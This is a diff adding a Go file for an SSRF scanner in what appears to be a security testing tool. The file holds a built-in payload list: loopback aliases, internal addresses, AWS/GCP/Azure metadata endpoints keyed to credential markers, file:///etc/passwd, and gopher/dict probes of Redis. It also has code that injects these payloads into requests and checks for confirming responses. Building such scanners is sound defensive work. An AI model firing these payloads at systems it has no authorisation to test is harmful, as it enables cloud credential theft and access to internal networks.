@@ -0,0 +1,310 @@
+package service
+
+import (
+	"bytes"
+	"fmt"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"time"
+)
+
+// SSRF payload categories.
+const (
+	ssrfLoopback = "loopback"
+	ssrfInternal = "internal"
+	ssrfMetadata = "metadata"
+	ssrfScheme   = "scheme"
+	ssrfOast     = "oast"
+	ssrfRedirect = "redirect"
+	ssrfCustom   = "custom"
+)
+
+// ssrfCategories are the built-in categories, in the order they are sent.
+var ssrfCategories = []string{ssrfLoopback, ssrfInternal, ssrfMetadata, ssrfScheme, ssrfOast, ssrfRedirect}
+
+// Verdicts for a single ssrf_test payload.
+const (
+	ssrfConfirmed = "confirmed" // OAST interaction, redirect to the payload host, or target content in the response
+	ssrfDiffers   = "differs"   // response differs from the control payload
+	ssrfNone      = "none"
+	ssrfError     = "error"
+)
+
+// Locations ssrf_test puts the payload in.
+const (
+	ssrfInQuery  = "query"
+	ssrfInBody   = "body"
+	ssrfInHeader = "header"
+)
+
+const (
+	// ssrfControl is sent before the payloads. It never resolves, so it shows how
+	// the application answers a URL it could not fetch.
+	ssrfControl = "http://sectool-control.invalid/"
+	// ssrfOastPlaceholder in a custom payload is replaced with a labelled OAST host.
+	ssrfOastPlaceholder = "{oast}"
+	// ssrfSimilarity is the body similarity to the control below which a payload differs.
+	ssrfSimilarity = 0.9
+	// A payload is slow when it takes ssrfSlowFactor times the control and at least
+	// ssrfSlowMin longer, which suggests the server waited on a connection.
+	ssrfSlowFactor = 3
+	ssrfSlowMin    = 2 * time.Second
+)
+
+// ssrfPayload is one value put in the tested parameter.
+type ssrfPayload struct {
+	category string
+	value    string
+	label    string   // OAST subdomain label, when the payload points at the OAST domain
+	markers  []string // response content that only the fetched target returns
+}
+
+// host returns the lowercase host the payload points at, so redirects to it can
+// be recognized. Backslashes are treated as slashes, as browsers do.
+func (p ssrfPayload) host() string {
+	value := strings.ReplaceAll(p.value, `\`, "/")
+	if !strings.Contains(value, "/") {
+		return strings.ToLower(value) // bare host
+	}
+	u, err := url.Parse(value)
+	if err != nil {
+		return ""
+	}
+	return strings.ToLower(u.Hostname())
+}
+
+var (
+	awsMarkers   = []string{"ami-id", "instance-id", "security-credentials"}
+	redisMarkers = []string{"redis_version"}
+)
+
+// ssrfStaticPayloads are the built-in payloads that need no OAST domain.
+var ssrfStaticPayloads = []ssrfPayload{
+	{category: ssrfLoopback, value: "http://127.0.0.1/"},
+	{category: ssrfLoopback, value: "http://localhost/"},
+	{category: ssrfLoopback, value: "http://[::1]/"},
+	{category: ssrfLoopback, value: "http://2130706433/"},
+	{category: ssrfLoopback, value: "http://0x7f000001/"},
+	{category: ssrfLoopback, value: "http://0177.0.0.1/"},
+	{category: ssrfLoopback, value: "http://127.1/"},
+	{category: ssrfLoopback, value: "http://0.0.0.0/"},
+	{category: ssrfLoopback, value: "http://[::ffff:127.0.0.1]/"},
+	{category: ssrfLoopback, value: "http://127.0.0.1:22/", markers: []string{"SSH-2.0"}},
+	{category: ssrfInternal, value: "http://10.0.0.1/"},
+	{category: ssrfInternal, value: "http://172.16.0.1/"},
+	{category: ssrfInternal, value: "http://192.168.0.1/"},
+	{category: ssrfInternal, value: "https://kubernetes.default.svc/"},
+	{category: ssrfMetadata, value: "http://169.254.169.254/latest/meta-data/", markers: awsMarkers},
+	{category: ssrfMetadata, value: "http://2852039166/latest/meta-data/", markers: awsMarkers},
+	{category: ssrfMetadata, value: "http://[::ffff:a9fe:a9fe]/latest/meta-data/", markers: awsMarkers},
+	{category: ssrfMetadata, value: "http://[fd00:ec2::254]/latest/meta-data/", markers: awsMarkers},
+	{category: ssrfMetadata, value: "http://metadata.google.internal/computeMetadata/v1/instance/",
+		markers: []string{"service-accounts/", "Metadata-Flavor"}},
+	{category: ssrfMetadata, value: "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
+		markers: []string{"azEnvironment", "Required metadata header not specified"}},
+	{category: ssrfMetadata, value: "http://100.100.100.200/latest/meta-data/", markers: []string{"instance-id"}},
+	{category: ssrfScheme, value: "file:///etc/passwd", markers: []string{"root:x:0:0:"}},
+	{category: ssrfScheme, value: "file:///c:/windows/win.ini", markers: []string{"[fonts]"}},
+	{category: ssrfScheme, value: "gopher://127.0.0.1:6379/_INFO%0d%0a", markers: redisMarkers},
+	{category: ssrfScheme, value: "dict://127.0.0.1:6379/info", markers: redisMarkers},
+}
+
+// ssrfPayloads returns the built-in payloads in categories (all when empty).
+// Payloads pointing at the OAST domain get a unique label; without a domain the
+// oast and redirect categories are skipped.
+func ssrfPayloads(categories []string, oastDomain string) []ssrfPayload {
+	include := func(category string) bool {
+		return len(categories) == 0 || slices.Contains(categories, category)
+	}
+
+	var payloads []ssrfPayload
+	for _, p := range ssrfStaticPayloads {
+		if include(p.category) {
+			payloads = append(payloads, p)
+		}
+	}
+	if oastDomain == "" {
+		return payloads
+	}
+	var n int
+	add := func(category, format string) {
+		n++
+		label := fmt.Sprintf("ssrf%02d", n)
+		payloads = append(payloads, ssrfPayload{
+			category: category,
+			value:    fmt.Sprintf(format, label+"."+oastDomain),
+			label:    label,
+		})
+	}
+	if include(ssrfOast) {
+		add(ssrfOast, "http://%s/")
+		add(ssrfOast, "https://%s/")
+		add(ssrfOast, "%s")
+	}
+	if include(ssrfRedirect) {
+		add(ssrfRedirect, "//%s/")
+		add(ssrfRedirect, `/\%s/`)
+		add(ssrfRedirect, "https://%s/%%2f..")
+	}
+	return payloads
+}
+
+// customSSRFPayloads turns caller-supplied values into payloads, replacing
+// ssrfOastPlaceholder with a labelled host on the OAST domain.
+func customSSRFPayloads(values []string, oastDomain string) []ssrfPayload {
+	payloads := make([]ssrfPayload, 0, len(values))
+	for i, value := range values {
+		p := ssrfPayload{category: ssrfCustom, value: value}
+		if oastDomain != "" && strings.Contains(value, ssrfOastPlaceholder) {
+			p.label = fmt.Sprintf("ssrfc%02d", i+1)
+			p.value = strings.ReplaceAll(value, ssrfOastPlaceholder, p.label+"."+oastDomain)
+		}
+		payloads = append(payloads, p)
+	}
+	return payloads
+}
+
+// ssrfLocation picks where to put name when the caller did not: the query string
+// if name is already there, otherwise the body of form, multipart or JSON requests,
+// otherwise the query string.
+func ssrfLocation(raw []byte, name string) string {
+	line, _, _ := strings.Cut(string(raw), "\r\n")
+	_, _, query, _ := parseRequestLine(line)
+	if values, err := url.ParseQuery(query); err == nil && values.Has(name) {
+		return ssrfInQuery
+	}
+	headers, body := splitHeadersBody(raw)
+	contentType := strings.ToLower(http.Header(parseHeadersToMap(string(headers))).Get("Content-Type"))
+	if len(bytes.TrimSpace(body)) > 0 && (strings.Contains(contentType, "x-www-form-urlencoded") ||
+		strings.Contains(contentType, "multipart/form-data") || strings.Contains(contentType, "json")) {
+		return ssrfInBody
+	}
+	return ssrfInQuery
+}
+
+// injectSSRF sets name to value at location in the raw request.
+func injectSSRF(raw []byte, location, name, value string) []byte {
+	switch location {
+	case ssrfInHeader:
+		headers, body := splitHeadersBody(raw)
+		return append(setHeader(headers, name, value), body...)
+	case ssrfInBody:
+		return setRequestParam(raw, name, value)
+	default:
+		headers, body := splitHeadersBody(raw)
+		lineEnd := strings.Index(string(headers), "\r\n")
+		if lineEnd < 0 {
+			return raw
+		}
+		method, path, query, version := parseRequestLine(string(headers[:lineEnd]))
+		line := buildRequestLine(method, path, setEncodedParam(query, name, value), version)
+		return append(append([]byte(line), headers[lineEnd:]...), body...)
+	}
+}
+
+// ssrfProbe is one request of an ssrf_test run and its outcome.
+type ssrfProbe struct {
+	payload  ssrfPayload
+	request  []byte
+	result   *SendRequestResult
+	status   int
+	err      error
+	verdict  string
+	evidence []string
+}
+
+// classifySSRF sets the probe's verdict from its response. Redirects to the
+// payload host and target content absent from the baseline and control confirm
+// it; otherwise differences from the control make it differ.
+func classifySSRF(probe, baseline, control *ssrfProbe) {
+	if probe.err != nil {
+		probe.verdict = ssrfError
+		probe.evidence = append(probe.evidence, probe.err.Error())
+		return
+	}
+
+	var confirmed []string
+	if host := probe.payload.host(); host != "" {
+		if location := redirectLocation(probe.result.Headers); location != "" {
+			u, err := url.Parse(strings.ReplaceAll(strings.TrimSpace(location), `\`, "/"))
+			if err == nil && strings.EqualFold(u.Hostname(), host) {
+				confirmed = append(confirmed, "redirects to payload host: "+location)
+			}
+		}
+	}
+	for _, marker := range probe.payload.markers {
+		if strings.Contains(string(probe.result.Body), marker) &&
+			!strings.Contains(string(baseline.result.Body), marker) &&
+			!strings.Contains(string(control.result.Body), marker) {
+			confirmed = append(confirmed, fmt.Sprintf("response contains %q", marker))
+		}
+	}
+	if len(confirmed) > 0 {
+		probe.verdict = ssrfConfirmed
+		probe.evidence = append(probe.evidence, confirmed...)
+		return
+	}
+
+	var differs []string
+	if probe.status != control.status {
+		differs = append(differs, fmt.Sprintf("status %d (control %d)", probe.status, control.status))
+	}
+	similarity := diffBodies(string(control.result.Headers), control.result.Body,
+		string(probe.result.Headers), probe.result.Body, diffOptions{noise: true}).Similarity
+	if similarity < ssrfSimilarity {
+		differs = append(differs, fmt.Sprintf("body similarity %.2f to control, size %d (control %d)",
+			similarity, len(probe.result.Body), len(control.result.Body)))
+	}
+	if d, c := probe.result.Duration, control.result.Duration; d > ssrfSlowFactor*c && d-c >= ssrfSlowMin {
+		differs = append(differs, fmt.Sprintf("took %s (control %s)", d.Round(time.Millisecond), c.Round(time.Millisecond)))
+	}
+	if len(differs) > 0 {
+		probe.verdict = ssrfDiffers
+		probe.evidence = append(probe.evidence, differs...)
+	} else if probe.verdict == "" {
+		probe.verdict = ssrfNone
+	}
+}
+
+// redirectLocation returns the target of a 3xx Location or a Refresh header.
+func redirectLocation(headers []byte) string {
+	status, _ := parseResponseStatus(headers)
+	parsed := parseHeadersToMap(string(headers))
+	if status >= 300 && status < 400 {
+		if values := parsed["Location"]; len(values) > 0 {
+			return values[0]
+		}
+	}
+	if values := parsed["Refresh"]; len(values) > 0 {
+		if _, target, ok := strings.Cut(strings.ToLower(values[0]), "url="); ok {
+			return strings.Trim(values[0][len(values[0])-len(target):], `'" `)
+		}
+	}
+	return ""
+}
+
+// applySSRFOast confirms probes whose label appears in an OAST interaction's subdomain.
+func applySSRFOast(probes []*ssrfProbe, events []OastEventInfo) {
+	byLabel := make(map[string]*ssrfProbe)
+	for _, probe := range probes {
+		if probe.payload.label != "" {
+			byLabel[probe.payload.label] = probe
+		}
+	}
+	for _, event := range events {
+		for _, part := range strings.Split(strings.ToLower(event.Subdomain), ".") {
+			probe, ok := byLabel[part]
+			if !ok {
+				continue
+			}
+			evidence := fmt.Sprintf("oast %s interaction from %s", event.Type, event.SourceIP)
+			if !slices.Contains(probe.evidence, evidence) {
+				probe.evidence = append(probe.evidence, evidence)
+			}
+			probe.verdict = ssrfConfirmed
+			break
+		}
+	}
+}